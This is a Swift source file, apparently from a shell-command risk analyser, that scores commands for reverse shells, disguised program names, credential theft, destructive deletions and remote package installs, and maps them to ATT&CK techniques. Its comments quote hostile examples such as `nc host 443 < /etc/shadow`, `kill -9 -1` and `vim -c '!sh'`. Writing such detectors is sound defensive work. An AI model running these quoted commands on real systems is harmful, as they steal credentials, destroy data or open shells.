import Foundation

/// Simple commands: assignments, builtins, and the programs the catalogue knows.
extension ShellReader {
    mutating func runSimple(_ cmd: SimpleCommand, stdin: Stream) -> CommandOutput {
        let via = timedVia
        timedVia = nil
        for a in cmd.assignments {
            var value = a.value.map { evaluateJoined($0) } ?? Argument(text: "", range: a.range)
            if let array = a.array {
                let elements = array.flatMap { evaluate($0) }
                value = Argument(text: elements.allSatisfy { $0.text != nil } ? elements.compactMap(\.text).joined(separator: " ") : nil,
                                 range: a.range, taint: elements.reduce(into: Taint()) { $0.formUnion($1.taint) })
            }
            checkAssignment(a.name, value, range: a.range)
            if cmd.words.isEmpty {
                let previous = variables[a.name]?.text
                let text = a.append ? previous.flatMap { p in value.text.map { p + $0 } } : value.text
                variables[a.name] = Value(text: text, taint: value.taint)
            }
        }
        let secretsBefore = report.secrets.count
        var argv: [Argument] = []
        for w in cmd.words { argv.append(contentsOf: evaluate(w)) }
        let secretsBeforeRedirects = report.secrets.count
        var io = applyRedirects(cmd.redirects, stdin: stdin, commandName: argv.first?.text)
        // A file of credentials given as standard input (`nc host 443 < /etc/shadow`).
        if report.secrets.count > secretsBeforeRedirects { io.stdin = io.stdin.adding(.secret) }
        var member = PipelineMember(name: argv.first?.text, range: cmd.range)
        guard !argv.isEmpty else {
            if io.interactiveNetwork {
                add(.critical, "T1059.004", "Ties the shell's input and output to a remote computer: a reverse shell that hands control of this machine to whoever is listening.", cmd.range)
            }
            return CommandOutput(stdout: .none, member: member)
        }
        if let first = cmd.words.first { noteDisguise(first, resolved: argv[0]) }
        checkEmptiedDeletionPath(cmd.words, argv, range: cmd.range)
        checkDataInHostName(cmd.words)
        if !["echo", "printf", ":", "true"].contains(argv[0].text ?? "") {
            InstanceMetadata.check(argv.compactMap(\.text) + io.network.map { String($0.endpoint.split(separator: " ").first ?? "") }, range: at(cmd.range), into: &report)
        }
        if via != nil { explain("`time` runs the command that follows and reports how long it took.") }
        if let tool = Self.shellSetupTool(cmd.words) {
            // (The tool itself was read with the substitution.)
            add(.low, nil, "Loads into this shell the settings `\(tool)` prints (environment variables, completions or a prompt): routine set-up.", cmd.range)
            return CommandOutput(stdout: .none, member: member)
        }
        var out = dispatch(argv, stdin: io.stdin, range: cmd.range, via: via, member: &member)
        // Encoded output (`xxd -p`, `base64`) is what data hidden in host names or packets is made of.
        if let n = argv.first?.text.map(Self.basename), ["xxd", "base64", "base32", "basenc", "od", "hexdump", "hd"].contains(n),
            !argv.dropFirst().contains(where: { ["-d", "--decode", "-D", "-r", "-revert"].contains($0.text ?? "") })
        {
            out = out.adding(.encoded).adding(io.stdin.taint.intersection(.secret))
        }
        // `kill`, directly or behind a wrapper (`sudo kill -9 -1`).
        if let k = argv.prefix(4).firstIndex(where: { $0.text == "kill" || $0.text == "/bin/kill" }), cmd.words.count == argv.count,
            argv[..<k].allSatisfy({ ["sudo", "doas", "env", "nohup", "command", "exec", "builtin"].contains($0.text ?? "") })
        {
            checkKill(Array(cmd.words[k...]), Array(argv[k...]), range: cmd.range)
        }
        // Data flow: what this command read of credentials, or was fed of them, is in its output
        // and in the files it wrote.
        let readSecrets = report.secrets.count > secretsBefore
        if readSecrets || io.stdin.taint.contains(.secret) {
            out = out.adding(.secret)
            for a in argv.dropFirst() {
                guard let t = a.text, t.contains("/") || t.contains("."), !t.hasPrefix("-") else { continue }
                let key = PathPattern.normalise(t)
                if secretFiles[key] == nil, catalogue.pathRules(for: t, writing: false).isEmpty {
                    secretFiles[key] = report.secrets.last.map { "a copy of \($0)" }
                }
            }
        }
        for endpoint in io.network { checkOutboundRedirect(endpoint.endpoint, readSecrets: readSecrets, stdin: io.stdin, range: endpoint.range) }
        if io.interactiveNetwork || (!io.network.isEmpty && member.interactiveShell) {
            add(.critical, "T1059.004", "Connects a shell to a remote computer (a reverse shell): whoever is listening there can run any command here.", cmd.range)
        }
        if let file = io.stdoutFile {
            let key = PathPattern.normalise(file.path)
            files[key] = out
            if case .text(let content, let taint, _) = out { noteWrittenContent(content, taint: taint, to: file.path, range: file.range) }
            out = .none
        }
        return CommandOutput(stdout: out, member: member)
    }

    /// Flags a program name written so that it does not look like itself (`b''a''s''h`, `c\at`,
    /// `$'\x62ash'`, `$X$Y`).
    mutating func noteDisguise(_ word: Word, resolved: Argument) {
        guard let name = resolved.text, !name.isEmpty else { return }
        let plain = word.parts.count == 1 && { if case .literal(let s, _) = word.parts[0] { return s == name } else { return false } }()
        if plain { return }
        // Quoting the whole name plainly ("ls" or 'ls') is common and harmless.
        if word.parts.count == 1, case .doubleQuoted(let inner, _) = word.parts[0], inner.count == 1, case .literal = inner[0] { return }
        if word.parts.count == 1, case .singleQuoted = word.parts[0] { return }
        // `$(which python3)`, `"$(command -v bash)"`: the program located, not hidden.
        let inner = word.parts.flatMap(Self.unquoted)
        if inner.count == 1, case .commandSubstitution(let script, _, _) = inner[0], Self.locatedProgram(script) != nil { return }
        let base = Self.basename(name)
        guard let entry = catalogue.unixProgram(base) else { return }
        let roles = Set(entry.roles ?? [])
        let dangerous = !roles.isDisjoint(with: ["shell", "interpreter", "downloader", "network-tool", "decoder", "destructive"])
            || entry.risk >= .medium
        add(dangerous ? .high : .medium, "T1027", "The program name is disguised: it is written in a way that hides that it runs `\(base)`.", word.range)
    }

    static func basename(_ path: String) -> String {
        guard let slash = path.lastIndex(of: "/") else { return path }
        return String(path[path.index(after: slash)...])
    }

    // MARK: - Dispatch

    mutating func dispatch(_ argv: [Argument], stdin: Stream, range: SourceRange, via: String?, member: inout PipelineMember) -> Stream {
        guard let raw = argv.first?.text else {
            let t = argv.first?.taint ?? []
            if t.contains(.network) || t.contains(.decoded) {
                add(.critical, "T1027", "Runs a program whose name comes from downloaded or decoded data: nobody can see what it is.", range)
            } else if t.contains(.dynamic) && !(argv.first?.range.isEmpty ?? true) {
                add(.medium, nil, "Runs a program whose name is only known when the command runs; Escort cannot tell which program it is.", range)
            }
            return .dynamic([])
        }
        let name = Self.basename(raw)
        let args = Array(argv.dropFirst())
        member.name = name
        // (At least one plain character: a lone `?` is more often an escaped `\?` than a pattern.)
        if name.contains(where: { $0 == "?" || $0 == "*" || $0 == "[" }), name.contains(where: { $0.isLetter || $0.isNumber }), functions[raw] == nil,
            catalogue.unixProgram(raw) == nil, let resolved = cachedGlobbedPrograms(raw)
        {
            // `/???/????/a??itctl -D`, `/usr/bin/ca? /etc/shadow`: the shell replaces the pattern
            // with the programs it matches; each is judged as if it were named.
            add(.high, "T1027", "Names the program by a wildcard (`\(raw)`) that the shell turns into `\(resolved.map { Self.basename($0) }.joined(separator: "` or `"))`: a way to hide which program runs.", range)
            var out: Stream = .dynamic([])
            for (k, program) in resolved.enumerated() {
                var m = member
                let s = dispatch([Argument(text: program, range: argv[0].range, taint: argv[0].taint)] + args, stdin: stdin, range: range, via: via, member: &m)
                if k == 0 { out = s; member = m }
            }
            return out
        }
        if raw.contains("/"), StagingFolder.contains(raw) {
            // Whatever it is named (a copy of `ls` or `env` runs as well from /tmp as the real one),
            // unless this input wrote it and its contents were read.
            let key = PathPattern.normalise(raw)
            var seen = targetFiles[key] != nil
            if case .text? = files[key] { seen = true }
            if !seen { add(.high, "T1204.002", "Runs `\(raw)` from \(StagingFolder.reason).", range) }
        }
        if functions[raw] != nil {
            // The body was analysed where it was defined.
            explain("Runs the shell function `\(raw)` defined above.")
            return .dynamic([])
        }
        if raw.hasPrefix("!"), raw.count > 1 {
            return shellEscape(argv, stdin: stdin, range: range, member: &member)
        }
        if let handled = builtin(name, raw: raw, args: args, stdin: stdin, range: range, via: via, member: &member) {
            return handled
        }
        if let handled = wrapper(name, args: args, stdin: stdin, range: range, member: &member) {
            return handled
        }
        if ["pwsh", "powershell", "powershell.exe", "pwsh.exe"].contains(name.lowercased()) {
            return runPowerShell(argv, range: range)
        }
        checkShellPayloadHandover(name, entry: catalogue.unixProgram(raw), args: args, range: range)
        if name == "osascript" { readAppleScript(args, range: range) }
        // (`ssh` itself is read by `runSSH`, which calls this too.)
        if ["scp", "sftp", "check_by_ssh", "autossh", "sshfs"].contains(name) { readSSHLocalCommands(name, args: args, range: range) }
        if ["docker", "podman", "nerdctl", "ctr", "crictl"].contains(name) {
            checkHostRootMount(name, args: args, range: range)
            readContainerCommand(name, args: args, range: range)
        }
        if let entry = catalogue.unixProgram(raw) {
            member.roles = Set(entry.roles ?? [])
            if member.roles.contains("shell") {
                return runShell(name, args: args, stdin: stdin, range: range, via: via, member: &member)
            }
            if member.roles.contains("interpreter") || Interpreter.language(of: name) != nil,
                let language = Interpreter.language(of: name) ?? (Self.inlineCode(args) != nil ? .other : nil)
            {
                checkShellHandover(name, args: args, range: range, member: &member)
                return runInterpreter(language, name: name, entry: entry, args: args, stdin: stdin, range: range, via: via, member: &member)
            }
            var args = name == "tar" ? Self.tarOptionsWithDash(args) : name == "sed" ? Self.sedInPlaceWithoutSuffix(args) : args
            // What a database client runs, read as statements: reads need no more than low.
            let statements = DatabaseStatements.judge(client: name, texts: args.map { $0.text ?? "" }, stdin: stdin.text)
            let onlyReads = args.allSatisfy { $0.text != nil } && statements.map { !$0.isEmpty && $0.allSatisfy { $0.risk <= .low } } == true
            // A control-plane call is judged by what it changes; a read-only one is low.
            let control = catalogue.controlPlane.judge(name, args.map { $0.text ?? "" })
            // Clean-up of caches, temporary folders and old rotated logs is routine.
            let cleanup = cleanupTargets(name, args: args)
            // A file an editor opens that no rule says more of than "configuration" is routine
            // work (`vim /etc/app/app.conf`); the commands an editor is told to run are read.
            if Self.editors.contains(name) {
                readEditorCommands(name, args: args, range: range)
                args = routineEdits(name, args: args, range: range)
            }
            if name == "pip" || name == "pip3" || name == "npm" || name == "gem" || name == "pipx" { checkInstallFromAddress(name, args: args, range: range) }
            if let what = cleanup {
                add(.low, nil, "`\(name)` deletes \(what): routine clean-up.", range)
            }
            // (Its flags, `-rf`, say how it deletes; what it deletes is what matters here.)
            let evaluated = cleanup != nil ? args.filter { !($0.text ?? "").hasPrefix("-") } : args
            let outcome = evaluator.evaluate(entry: entry, name: name, args: evaluated, commandRange: at(range), windows: false, programRiskReplaced: onlyReads || control.readOnly || cleanup != nil, into: &report)
            for rule in control.hits {
                add(rule.risk, techniques: rule.techniques, ProgramEvaluator.sentence("`\(name) \(rule.words.joined(separator: " "))` \(rule.meaning)"), range)
            }
            for v in statements ?? [] {
                explain(v.reason)
                if v.risk > .low { add(v.risk, v.technique, v.reason, range) }
            }
            checkOwnDatabase(name, args: args, statements: statements ?? [], range: range)
            checkOutbound(name, args: args, stdin: stdin, range: range)
            readCommandsInFlags(name, outcome: outcome)
            return applyProgramRules(name, entry: entry, outcome: outcome, args: args, stdin: stdin, range: range, via: via, member: &member)
        }
        if raw.contains("/") {
            // A program or script run by path: `./deploy.sh`, `/tmp/x`.
            runFile(raw, language: Interpreter.language(ofFile: raw) ?? .shell, range: range, directly: true)
            return .dynamic([])
        }
        checkShellHandover(name, args: args, range: range, member: &member)
        if let code = Self.inlineCode(args), Interpreter.language(of: name) == nil {
            // An unknown program given code to run (`julia -e`, `jrunscript -e`, `octave --eval`).
            scanCode(code, language: .other, range: range, hidden: false, via: name)
        }
        for a in args {
            guard let t = a.text, ProgramEvaluator.looksLikePath(t) else { continue }
            // (What an unknown program does with a disk it is given is not known to be reading
            // its contents: a disk tool, most often; the program itself is already medium.)
            evaluator.checkPath(t, writing: false, range: at(a.range), verb: "uses", readsContents: ProgramEvaluator.contentReaders.contains(name), into: &report)
        }
        add(.medium, nil, "Runs `\(name)`, a program Escort does not know: treat it as a change to the system.", range)
        explain("`\(name)` is not in Escort's catalogue of programs, so Escort cannot say what it does.")
        return .dynamic([])
    }

    /// A database of the target's own (``TargetContext/databases``) named by a command that
    /// destroys data: said in words, high, T1485 (`dropdb orders`, `mysqladmin drop orders`,
    /// `psql orders -c 'TRUNCATE …'`).
    mutating func checkOwnDatabase(_ name: String, args: [Argument], statements: [DatabaseStatements.Verdict], range: SourceRange) {
        guard !context.databases.isEmpty else { return }
        let texts = args.compactMap(\.text)
        let ctx = context
        var named = texts.lazy.compactMap { ctx.ownDatabase($0) }.first
        if named == nil {
            // `-d orders`, `--dbname=orders`, `-Dorders`, or the name inside a statement.
            for t in texts {
                for part in t.split(whereSeparator: { " =;.,()".contains($0) }) where named == nil { named = context.ownDatabase(String(part)) }
            }
        }
        guard let db = named else { return }
        let destroys = statements.contains { $0.technique == "T1485" } || (name == "dropdb") || (name == "mysqladmin" && texts.contains("drop"))
        guard destroys else { return }
        add(.high, "T1485", "Destroys data in `\(db)`, this target's own database: it is gone unless there is a backup.", range)
    }

    mutating func cachedGlobbedPrograms(_ raw: String) -> [String]? {
        if let known = globbed[raw] { return known.isEmpty ? nil : known }
        let found = globbedPrograms(raw)
        globbed[raw] = found ?? []
        return found
    }

    /// The catalogue's programs a wildcard program name can match (most dangerous first, at
    /// most three), in the folders programs are kept in; nil when it matches none of them.
    func globbedPrograms(_ raw: String) -> [String]? {
        let base = Self.basename(raw)
        let folder = raw.contains("/") ? String(raw[..<raw.lastIndex(of: "/")!]) : nil
        let folders = ["/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin"]
        let dirs = folder.map { f in folders.filter { PathPattern.globMatch(f, $0) } } ?? ["/usr/bin"]
        guard !dirs.isEmpty else { return nil }
        // A name can only match a pattern with no more fixed characters than it has (this keeps a
        // long pattern from being tried against every program: 2,900 bytes took 300 ms).
        let fixed = PathPattern.fixedLength(base)
        // (No program is named with more than 64 characters; a longer pattern, `[` after `[`, is
        // a mangled word, not a way to name one. It stays an unknown program: medium.)
        guard fixed <= 64, base.count <= 128 else { return nil }
        let matches = catalogue.unixPrograms.filter { $0.key.count >= fixed && PathPattern.globMatch(base, $0.key) }
        guard !matches.isEmpty else { return nil }
        let ordered = matches.sorted { a, b in
            a.value.risk != b.value.risk ? a.value.risk > b.value.risk : (a.value.roles?.count ?? 0, b.key) > (b.value.roles?.count ?? 0, a.key)
        }
        let dir = folder == nil ? "" : dirs[0] + "/"
        return ordered.prefix(3).map { dir + $0.key }
    }

    /// `rm -rf "$DIR/"`, `rm -rf $STEAMROOT/*`: a deletion path that starts with a variable and
    /// then `/`. When the variable is empty or unset (never assigned in this input, nor guarded
    /// with `${DIR:?}`), the path is the root of the file system. High, T1485.
    mutating func checkEmptiedDeletionPath(_ words: [Word], _ argv: [Argument], range: SourceRange) {
        guard let k = argv.prefix(3).firstIndex(where: { Self.basename($0.text ?? "") == "rm" }),
            argv[..<k].allSatisfy({ ["sudo", "doas", "command", "exec", "nice", "ionice"].contains($0.text ?? "") }),
            words.count == argv.count, argv[(k + 1)...].contains(where: { a in
                let t = a.text ?? ""
                return t == "--recursive" || t.hasPrefix("-") && !t.hasPrefix("--") && t.contains(where: { "rR".contains($0) })
            })
        else { return }
        for word in words.dropFirst(k + 1) {
            let parts = word.parts.flatMap(Self.unquoted)
            guard parts.count >= 2, case .parameter(let p) = parts[0], p.op == nil || p.op == .useDefault && p.argument == nil,
                !p.length, !p.indirect, p.name.first?.isLetter == true || p.name.first == "_"
            else { continue }
            let next: String
            switch parts[1] {
            case .literal(let t, _), .singleQuoted(let t, _): next = t
            default: continue
            }
            guard next.hasPrefix("/") else { continue }
            if let known = variables[p.name]?.text, !known.isEmpty { continue }
            // Set in every login shell.
            if variables[p.name] == nil, ["HOME", "PWD", "USER", "LOGNAME", "SHELL"].contains(p.name) { continue }
            let rest = parts.dropFirst().compactMap { part -> String? in
                switch part {
                case .literal(let t, _), .singleQuoted(let t, _): return t
                default: return nil
                }
            }.joined()
            add(.high, "T1485", "Deletes `$\(p.name)\(rest)`: if `$\(p.name)` is empty or unset, that is `\(rest)` from the root of the file system, which destroys the machine's data (guard it with `${\(p.name):?}`).", word.range)
        }
    }

    /// Tools whose output is shell set-up meant to be loaded with `eval` or `source`.
    static let shellSetupTools: Set<String> = [
        "ssh-agent", "keychain", "direnv", "pyenv", "pyenv-virtualenv-init", "rbenv", "nodenv", "goenv", "jenv", "plenv", "brew",
        "conda", "mamba", "micromamba", "starship", "zoxide", "thefuck", "fnm", "mise", "rtx", "opam", "dircolors", "lesspipe",
        "lesspipe.sh", "atuin", "mcfly", "oh-my-posh", "navi", "register-python-argcomplete", "luarocks", "gpgconf", "cs",
    ]

    /// The tool in `eval "$(ssh-agent -s)"`, `eval "$(pyenv init -)"`, `source <(kubectl completion
    /// bash)`: one local program, known for printing shell set-up, run on its own with literal
    /// arguments (nothing downloaded, decoded or piped), or a program asked for its completions.
    static func shellSetupTool(_ words: [Word]) -> String? {
        guard words.count == 2, let verb = words[0].literalValue, ["eval", "source", "."].contains(verb) else { return nil }
        let parts = words[1].parts.flatMap(unquoted)
        guard parts.count == 1 else { return nil }
        let script: Script
        switch parts[0] {
        case .commandSubstitution(let s, _, _) where verb == "eval": script = s
        case .processSubstitution(let s, true, _) where verb != "eval": script = s
        default: return nil
        }
        guard script.items.count == 1, let pipeline = script.items.first?.andOr.pipelines, pipeline.count == 1,
            pipeline[0].commands.count == 1, case .simple(let simple) = pipeline[0].commands[0], simple.assignments.isEmpty, simple.redirects.isEmpty
        else { return nil }
        let texts = simple.words.map(\.literalValue)
        guard texts.allSatisfy({ $0 != nil }), let program = texts.first.map({ basename($0!) }) else { return nil }
        let completion = texts.dropFirst().contains { ["completion", "completions", "--completion", "shellenv", "hook", "init", "env", "activate"].contains($0!) }
        guard shellSetupTools.contains(program) || completion && !["curl", "wget", "cat", "echo", "printf", "base64", "xxd"].contains(program) else { return nil }
        return program
    }

    static let editors: Set<String> = ["vi", "vim", "nvim", "rvim", "vimdiff", "gvim", "view", "nano", "pico", "emacs", "micro", "joe", "mcedit", "ne", "jed", "sudoedit"]

    /// The editor's file operands that only plain configuration or application rules match, said
    /// once as a low finding and taken out of the arguments the catalogue checks.
    mutating func routineEdits(_ name: String, args: [Argument], range: SourceRange) -> [Argument] {
        var kept: [Argument] = []
        for a in args {
            guard let t = a.text, !t.hasPrefix("-"), !t.hasPrefix("+"), ProgramEvaluator.looksLikePath(t) else { kept.append(a); continue }
            let writes = catalogue.pathRules(for: t, writing: true)
            let reads = catalogue.pathRules(for: t, writing: false)
            guard writes.allSatisfy({ $0.risk <= .medium && ($0.techniques ?? []).isEmpty }), reads.allSatisfy({ $0.risk <= .low }) else { kept.append(a); continue }
            let what = writes.first.map { " (\($0.meaning))" } ?? ""
            add(.low, nil, "`\(name)` opens `\(t)`\(what) for editing: routine work, typed in the editor and seen in the session.", a.range)
            explain("`\(name)` opens `\(t)` for editing.")
        }
        return kept
    }

    /// Commands an editor is told to run when it starts (`vim -es -c ':py3 os.system(…)'`,
    /// `vim -c '!sh'`, `vim +':call system("…")'`): read in their language.
    mutating func readEditorCommands(_ name: String, args: [Argument], range: SourceRange) {
        var commands: [String] = []
        for (i, a) in args.enumerated() {
            guard let t = a.text else { continue }
            if (t == "-c" || t == "--cmd" || t == "-S"), i + 1 < args.count, let v = args[i + 1].text, t != "-S" { commands.append(v) }
            if t.hasPrefix("+"), t.count > 1, !t.dropFirst().allSatisfy(\.isNumber) { commands.append(String(t.dropFirst())) }
        }
        for raw in commands {
            var c = Substring(raw).drop { $0 == ":" || $0 == " " }
            func after(_ prefixes: [String]) -> String? {
                for p in prefixes where c.hasPrefix(p) { return String(c.dropFirst(p.count)) }
                return nil
            }
            if c.hasPrefix("!") {
                let inner = String(c.dropFirst()).trimmingCharacters(in: .whitespaces)
                if let first = inner.split(separator: " ").first, ["sh", "bash", "dash", "zsh", "ksh", "ash", "fish"].contains(Self.basename(String(first))), inner.split(separator: " ").count == 1 {
                    add(.high, "T1059.004", "`\(name)` starts a shell as it opens (`\(Self.excerpt(raw, limit: 40))`): a known way to escape restrictions, and what is typed into it is not read command by command.", range)
                }
                readNested(inner, range: range, hidden: false)
            } else if let code = after(["py3 ", "python3 ", "py ", "python ", "pyx ", "pythonx ", "py3do ", "pydo "]) {
                scanCode(code, language: .python, range: range, hidden: false, via: name)
            } else if let code = after(["lua ", "luado "]) {
                scanCode(code, language: .lua, range: range, hidden: false, via: name)
            } else if let code = after(["perl ", "perldo "]) {
                scanCode(code, language: .perl, range: range, hidden: false, via: name)
            } else if let code = after(["ruby ", "rubydo "]) {
                scanCode(code, language: .ruby, range: range, hidden: false, via: name)
            } else if let rest = after(["r !", "read !", "w !", "write !", "r!", "w!"]) {
                readNested(rest, range: range, hidden: false)
            } else if c.contains("system(") || c.contains("systemlist(") {
                let chars = Array(c)
                if let r = String(c).range(of: "system") , let open = String(c)[r.upperBound...].firstIndex(of: "(") {
                    let offset = String(c).distance(from: String(c).startIndex, to: open) + 1
                    if let literal = Interpreter.firstStringLiteral(chars, from: offset) { readNested(literal, range: range, hidden: false) }
                }
                c = ""
            } else {
                continue
            }
            add(.medium, "T1059", "`\(name)` runs commands given on its command line (`\(Self.excerpt(raw, limit: 50))`) as it starts.", range)
        }
    }

    /// `pip install https://198.51.100.40/pkg.tar.gz`, `npm install https://…/x.tgz`: a package
    /// fetched from an address rather than the package index, whose install scripts run here.
    mutating func checkInstallFromAddress(_ name: String, args: [Argument], range: SourceRange) {
        let texts = args.compactMap(\.text)
        guard let verb = texts.first(where: { !$0.hasPrefix("-") }), ["install", "i", "add"].contains(verb) else { return }
        for t in texts {
            let url = t.hasPrefix("git+") ? String(t.dropFirst(4)) : t
            guard let host = Destination.urlHost(url) else { continue }
            let d = Destination.classify(host).within(context)
            guard d.leavesNetwork else { continue }
            // A bare address is nobody's package index; a named site may be a vendor's own.
            let risk: RiskLevel = d.isAddress || d.kind == .unknown ? .high : .medium
            add(risk, "T1105", "`\(name)` installs a package straight from `\(Self.excerpt(t, limit: 60))` (\(d.phrase)), not from the package index: its install scripts run here with this account's rights.", range)
            return
        }
    }

    /// What a deletion removes when it is only caches, temporary files or old rotated logs
    /// (`rm -rf /tmp/build-*`, `rm -rf ~/.cache/pip`, `find /var/log/app -name '*.gz' -mtime +30
    /// -delete`), in words; nil when anything else could go (or is not known before it runs).
    func cleanupTargets(_ name: String, args: [Argument]) -> String? {
        let texts = args.compactMap(\.text)
        guard texts.count == args.count else { return nil }
        switch name {
        case "rm", "rmdir", "unlink":
            let operands = texts.filter { !$0.hasPrefix("-") }
            guard !operands.isEmpty, !texts.contains("--no-preserve-root") else { return nil }
            var kinds: [String] = []
            for op in operands {
                let p = PathPattern.normalise(op.count > 1 && op.hasSuffix("/") ? String(op.dropLast()) : op)
                guard p.hasPrefix("/") || p.hasPrefix("~/") || p.hasPrefix("C:") || p.hasPrefix("c:"),
                    let kind = resource(of: p), kind.risk <= .low,
                    catalogue.pathRules(for: p, writing: true).allSatisfy({ ProgramEvaluator.literalDepth($0.pattern) <= ProgramEvaluator.literalDepth(kind.pattern) })
                else { return nil }
                if !kinds.contains(kind.meaning) { kinds.append(kind.meaning) }
            }
            return kinds.joined(separator: " and ") + " (`" + operands.prefix(3).joined(separator: "`, `") + "`)"
        case "find":
            guard texts.contains("-delete"), !texts.contains("-exec"), !texts.contains("-execdir") else { return nil }
            let folders = texts.prefix { !$0.hasPrefix("-") && $0 != "(" && $0 != "!" }
            guard !folders.isEmpty else { return nil }
            let aged = zip(texts, texts.dropFirst()).contains { f, v in ["-mtime", "-mmin", "-atime", "-amin", "-ctime", "-cmin"].contains(f) && v.hasPrefix("+") }
            let rotated = zip(texts, texts.dropFirst()).contains { f, v in
                ["-name", "-iname"].contains(f) && [".gz", ".bz2", ".xz", ".zst", ".old", ".tmp", ".log.*", ".[0-9]", ".1"].contains { v.hasSuffix($0) }
            }
            for folder in folders {
                let p = PathPattern.normalise(folder)
                guard let kind = catalogue.resource(of: p + "/x") else { return nil }
                if kind.risk <= .low, catalogue.pathRules(for: p + "/x", writing: true).isEmpty { continue }
                // Logs: only old ones, and never the audit trail, the journal or the login records.
                let logs = p.hasPrefix("/var/log/") && !["/var/log/audit", "/var/log/journal", "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog", "/var/log/auth", "/var/log/secure"].contains { p.hasPrefix($0) }
                guard logs, aged || rotated else { return nil }
            }
            return "old files from `" + folders.joined(separator: "`, `") + "`"
        default:
            return nil
        }
    }

    /// Signals to processes: an application's process by number is routine; the shell itself
    /// (`kill -9 $$`, so bash dies before it saves the session's history) and every process
    /// (`kill -9 -1`, `kill 1`) are not.
    mutating func checkKill(_ words: [Word], _ argv: [Argument], range: SourceRange) {
        let texts = argv.dropFirst().compactMap(\.text)
        let hard = texts.contains { ["-9", "-KILL", "-SIGKILL", "-s9", "-sKILL"].contains($0) } || zip(texts, texts.dropFirst()).contains { $0 == "-s" && ["9", "KILL", "SIGKILL"].contains($1) }
        let ownShell = words.dropFirst().contains { w in
            w.parts.contains { part in
                let inner = Self.unquoted(part)
                return inner.contains { if case .parameter(let p) = $0 { return p.name == "$" } else { return false } }
            }
        }
        if ownShell {
            add(hard ? .high : .medium, "T1070.003", "Kills the shell this command runs in (`$$`)\(hard ? " with SIGKILL, so it dies before it can save the session's command history" : ""): a way to leave no history of what was typed.", range)
        }
        // The process ids: what follows the signal (`-9`, `-s KILL`, `-n 9`) and a `--`.
        var pids: [String] = []
        var i = 0
        var options = true
        while i < texts.count {
            let t = texts[i]
            if options, t == "--" { options = false; i += 1; continue }
            if options, t == "-s" || t == "-n" { i += 2; continue }
            if options, t.hasPrefix("-"), pids.isEmpty, i == 0 || texts[i - 1] != "--" {
                // The first dash word is the signal; a second one is a process group (`-1`: all).
                if i == 0 || (i == 2 && (texts[0] == "-s" || texts[0] == "-n")) { i += 1; continue }
            }
            options = false
            pids.append(t)
            i += 1
        }
        if pids.contains(where: { $0 == "1" || $0 == "-1" }) {
            add(.high, "T1489", "Signals every process (`-1`) or the system's first process (`1`): the machine stops serving.", range)
        }
    }

    /// `sed -i.bak` and `--in-place=.bak` as `-i`: the suffix names the backup, the file is still
    /// changed in place.
    static func sedInPlaceWithoutSuffix(_ args: [Argument]) -> [Argument] {
        args.map { a in
            guard let t = a.text, t.count > 2, t.hasPrefix("-i") || t.hasPrefix("--in-place=") else { return a }
            return Argument(text: t.hasPrefix("--") ? "--in-place" : "-i", range: a.range, taint: a.taint)
        }
    }

    /// tar's old style, a first argument of option letters with no dash (`tar czf OUT DIR`), as
    /// the same options with one (`tar -czf OUT DIR`).
    static func tarOptionsWithDash(_ args: [Argument]) -> [Argument] {
        guard let first = args.first, let t = first.text, !t.isEmpty, t.count <= 12,
            t.allSatisfy({ "ctxrudAzjJaZvfpPkOSWhlmMigGTX".contains($0) }), t.contains(where: { "ctxrudA".contains($0) })
        else { return args }
        var out = args
        out[0] = Argument(text: "-" + t, range: first.range, taint: first.taint)
        return out
    }

    /// `!CMD`, the way `less`, `vi`, `ftp`, `ed`, `gdb`, `mysql` and many other interactive programs
    /// run a command. To a shell it is no command at all (`!/bin/sh` is not a program; in an
    /// interactive bash it is history expansion), so a line like it is being typed into such a
    /// program: the command after `!` is read, and a shell started that way is the GTFOBins escape.
    mutating func shellEscape(_ argv: [Argument], stdin: Stream, range: SourceRange, member: inout PipelineMember) -> Stream {
        guard let raw = argv.first?.text else { return .dynamic([]) }
        var inner = argv
        inner[0] = Argument(text: String(raw.dropFirst()), range: argv[0].range, taint: argv[0].taint)
        explain("`\(raw)` is how many interactive programs (pagers, editors, `ftp`, debuggers) run a command: it runs `\(inner[0].text ?? "")`.")
        let isShell = Set(catalogue.unixProgram(inner[0].text ?? "")?.roles ?? []).contains("shell")
        if isShell, inner.dropFirst().allSatisfy({ ($0.text ?? "").hasPrefix("-") && !($0.text ?? "").contains("c") }) {
            add(.high, "T1059.004", "Escapes from an interactive program into a shell (`\(raw)`): a known way around restrictions, and what is typed there is not read command by command.", range)
            member.interactiveShell = true
            return .dynamic([])
        }
        return dispatch(inner, stdin: stdin, range: range, via: nil, member: &member)
    }

    /// AppleScript given with `-e`: `do shell script "…"` (and Terminal's `do script "…"`) runs shell
    /// commands, read here as such; `with administrator privileges` first asks for an administrator
    /// password and runs them as root; `display dialog … hidden answer` (or one asking for a
    /// password) is a password prompt the script made up, a known way to phish the user.
    mutating func readAppleScript(_ args: [Argument], range: SourceRange) {
        var lines: [String] = []
        var i = 0
        while i < args.count {
            if args[i].text == "-e", i + 1 < args.count, let t = args[i + 1].text {
                lines.append(t)
                i += 2
            } else {
                i += 1
            }
        }
        let script = lines.joined(separator: "\n")
        guard !script.isEmpty else { return }
        let lower = script.lowercased()
        if lower.contains("display dialog"), lower.contains("hidden answer") || ["password", "passphrase", "passcode"].contains(where: { lower.contains($0) }) {
            add(.high, "T1056.002", "Shows a made-up dialog asking for a password: whatever the user types goes to this script, a known way to steal passwords.", range)
        }
        var rest = Substring(script)
        while let r = rest.range(of: "do shell script", options: .caseInsensitive) ?? rest.range(of: "do script", options: .caseInsensitive) {
            let after = rest[r.upperBound...].drop { $0 == " " }
            guard after.first == "\"" else { rest = rest[r.upperBound...]; continue }
            var command = ""
            var escaped = false
            var end = after.index(after: after.startIndex)
            while end < after.endIndex {
                let c = after[end]
                if escaped { command.append(c); escaped = false } else if c == "\\" { escaped = true } else if c == "\"" { break } else { command.append(c) }
                end = after.index(after: end)
            }
            let tail = after[end...].prefix(60).lowercased()
            explain("The AppleScript runs the shell command `\(Self.excerpt(command, limit: 100))`.")
            if tail.contains("administrator privileges") {
                add(.high, "T1548.004", "Asks for an administrator password and runs shell commands as root (`with administrator privileges`).", range)
            }
            readNested(command, range: range, hidden: false)
            rest = after[end...]
        }
    }

    /// `-o ProxyCommand=…` and `-o LocalCommand=…` make ssh, scp and sftp run a command on this
    /// machine: read it as shell (`sftp -o ProxyCommand='/bin/sh -i …'` is a known escape).
    mutating func readSSHLocalCommands(_ name: String, args: [Argument], range: SourceRange) {
